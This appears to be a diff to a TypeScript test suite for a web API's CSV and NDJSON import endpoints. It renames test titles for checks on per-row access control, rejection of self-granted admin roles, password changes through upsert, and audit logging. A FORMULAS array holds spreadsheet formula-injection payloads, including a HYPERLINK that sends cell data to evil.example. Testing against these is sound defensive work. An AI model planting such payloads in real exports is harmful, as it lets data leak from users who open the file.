@@ -8,8 +8,8 @@ beforeAll(async () => {
 });
 afterAll(() => target.close());
 
-describe('a row', () => {
-  it('is decided by itself if policies read it, also after allowed rows', async () => {
+describe('an import row', () => {
+  it('decides an import row by itself if policies read it, also after allowed rows', async () => {
     const rows = [
       { title: 'a' },
       { title: 'b' },
@@ -37,13 +37,13 @@ describe('a row', () => {
     expect([reply.status, reply.at('data.imported'), reply.at('rejections.0')]).toMatchObject([200, 3, { row: 4, code: 'ACCESS_DENIED' }]);
   });
 
-  it('with the role admin creates no admin', async () => {
+  it('an import row with the role admin creates no admin', async () => {
     const raw = 'name,email,password,role\nx,x@example.com,a long password,admin\n';
     const reply = await target.as('alice', 'POST', '/api/User/import', { raw, headers: { 'content-type': 'text/csv' } });
     expect([reply.status, reply.at('errors.0.code')]).toEqual([422, 'guarded']);
   });
 
-  it('does not change the password of another user by upsert', async () => {
+  it('an upsert does not change the password of another user', async () => {
     const raw = `email,password\n${target.emails.bob},a password of mine\n`;
     const query = 'mode=upsert&key=email';
     for (const caller of ['alice', 'eve'] as const) {
@@ -53,7 +53,7 @@ describe('a row', () => {
     await target.logIn(target.emails.bob, target.passwords);
   });
 
-  it('of a dry run has an audit entry', async () => {
+  it('a row of a dry run has an audit entry', async () => {
     const raw = JSON.stringify({ title: 'probe' });
     const before = (await target.decisions('action=import&limit=200')).length;
     await target.as('alice', 'POST', '/api/Case/import?dryRun=true', { raw, headers: { 'content-type': 'application/x-ndjson' } });
@@ -65,7 +65,7 @@ describe('a row', () => {
 const FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', ' =1', '=HYPERLINK("http://evil.example?"&A1)', "'=1", '\uff1d1'];
 
 describe('a text that a spreadsheet would run', () => {
-  it('is exported to CSV as text, and imported again unchanged', async () => {
+  it('exports a text that a spreadsheet would run to CSV as text, and imports it again unchanged', async () => {
     const raw = FORMULAS.map((title) => JSON.stringify({ title, origin: 'formula' })).join('\n');
     const file = { raw, headers: { 'content-type': 'application/x-ndjson' } };
     expect((await target.as('eve', 'POST', '/api/Case/import', file)).status).toBe(200);
